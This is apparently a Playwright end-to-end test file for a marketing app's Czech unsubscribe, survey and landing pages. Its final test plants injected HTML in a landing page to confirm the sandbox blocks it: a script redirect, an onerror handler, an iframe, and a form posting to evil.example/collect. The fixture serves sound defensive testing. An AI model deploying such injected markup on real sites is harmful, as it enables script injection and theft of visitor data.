import type { Browser, BrowserContextOptions, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { TestCompany } from "../harness/factories/company.ts";
import { aToken } from "../harness/servers/public-pages.ts";
import { closeContexts, collectPageErrors, workerBrowser } from "./launch-browser.ts";
import { serveCompany } from "./serve-company.ts";

let own: TestCompany;
let browser: Browser;
let origin = "";

beforeAll(async () => {
  ({ own, origin } = await serveCompany());
  browser = await workerBrowser();
});

afterAll(closeContexts);

async function open(path: string, options: BrowserContextOptions = {}): Promise<{ page: Page; pageErrors: string[] }> {
  const context = await browser.newContext({ viewport: { width: 360, height: 740 }, ...options });
  const page = await context.newPage();
  const pageErrors = collectPageErrors(page);
  await page.goto(`${origin}${path}`);
  return { page, pageErrors };
}

const overflow = (page: Page) =>
  page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth");

const colors = (page: Page, selector: string) =>
  page.evaluate(`(() => { const style = getComputedStyle(document.querySelector(${JSON.stringify(selector)}));
    return [style.color, style.backgroundColor]; })()`);

const questions = [
  { key: "nps", type: "nps", label: "Doporučili byste nás svým přátelům?", required: true },
  { key: "stars", type: "rating", label: "Jak jste spokojeni s dopravou?" },
  {
    key: "how",
    type: "single",
    label: "Jak jste nás našli?",
    options: [{ label: "Na internetu" }, { label: "Od známých" }],
  },
  { key: "what", type: "multiple", label: "Co u nás kupujete?", options: [{ label: "Květiny" }, { label: "Semena" }] },
  { key: "why", type: "text", label: "Co můžeme zlepšit?" },
];

describe.each(["light", "dark"] as const)("in %s mode, on a phone, without JavaScript", (colorScheme) => {
  const options = { colorScheme, javaScriptEnabled: false };
  const withScript = { colorScheme };

  it("the preferences page fits and works", async () => {
    const list = await own.aList({ publicName: "Novinky a tipy z naší zahrady, jednou za měsíc" });
    const contact = await own.aContact({ listIds: [list.id], language: "cs" });
    const path = `/u/${aToken(own, { purpose: "unsubscribe", contactId: contact.id })}`;
    const seen = await open(path, withScript);
    expect(await overflow(seen.page)).toBe(0);
    expect(seen.pageErrors).toEqual([]);
    const [text, back] = Object.values(Object(await colors(seen.page, "button[value=save]")));
    expect(text).not.toBe(back);

    const { page } = await open(path, options);
    await page.getByLabel("Novinky a tipy").uncheck();
    await page.getByRole("button", { name: "Uložit nastavení" }).click();
    await page.getByText("Nastavení je uložené.").waitFor();
    expect(await page.getByLabel("Novinky a tipy").isChecked()).toBe(false);
    await page.getByRole("button", { name: "Odhlásit se ze všeho" }).click();
    await page.getByRole("heading", { name: "Jste odhlášeni" }).waitFor();
    expect((await own.api.ok("getContact", { params: { id: contact.id } })).status).toBe("unsubscribed");
  });

  it("a survey fits and works", async () => {
    const body = { name: `Survey ${colorScheme}`, title: "Jak se vám u nás líbí?", questions, active: true };
    const survey = await own.api.ok("createSurvey", { body });
    const seen = await open(`/s/${survey.key}`, withScript);
    expect(await overflow(seen.page)).toBe(0);
    expect(seen.pageErrors).toEqual([]);

    const { page } = await open(`/s/${survey.key}`, options);
    await page.getByLabel("Co můžeme zlepšit?").fill("Nic");
    await page.getByRole("button", { name: "Odeslat odpovědi" }).click();
    await page.getByText("Na tuto otázku prosím odpovězte.").waitFor();
    expect(await page.getByLabel("Co můžeme zlepšit?").inputValue()).toBe("Nic");
    await page.getByLabel("9", { exact: true }).check();
    await page.getByLabel("Semena").check();
    await page.getByRole("button", { name: "Odeslat odpovědi" }).click();
    await page.getByRole("heading", { name: "Děkujeme" }).waitFor();
    const { items } = await own.api.ok("listSurveyResponses", { params: { survey_id: survey.id } });
    expect(items.map(({ answers }) => answers)).toEqual([{ nps: 9, what: ["o2"], why: "Nic" }]);
  });
});

it("a landing page runs and loads nothing, even if something passed the sanitizer", async () => {
  const slug = `sandbox-${process.pid}`;
  const { id } = await own.api.ok("createLandingPage", { body: { name: "Sandbox", slug, published: true } });
  const html = `<style>button { position: fixed; inset: 0; width: 100%; height: 100% }</style>
    <script>location = "/healthz?script"</script><img src="x" onerror="location = '/healthz?handler'">
    <iframe src="/healthz?frame"></iframe><link rel="stylesheet" href="/healthz?sheet">
    <form action="https://evil.example/collect" method="post"><button>Send</button></form>`;
  await own.ctx.db.sql`update landing_page set html = ${html} where tenant_id = ${own.tenantId} and id = ${id}`;
  const page = await (await browser.newContext()).newPage();
  const pageErrors = collectPageErrors(page);
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url().replace(origin, "")));
  await page.goto(`${origin}/l/${slug}`, { waitUntil: "load" });
  // Scripts do not run in this page, including those of the test: only the mouse works.
  await page.mouse.click(100, 100);
  await expect.poll(() => pageErrors.join()).toContain("form-action");
  expect(asked.filter((url) => /healthz\?(script|handler|frame)|evil/.test(url))).toEqual([]);
  expect(pageErrors.join()).toContain("Blocked script execution");
  expect(page.url()).toBe(`${origin}/l/${slug}`);
});
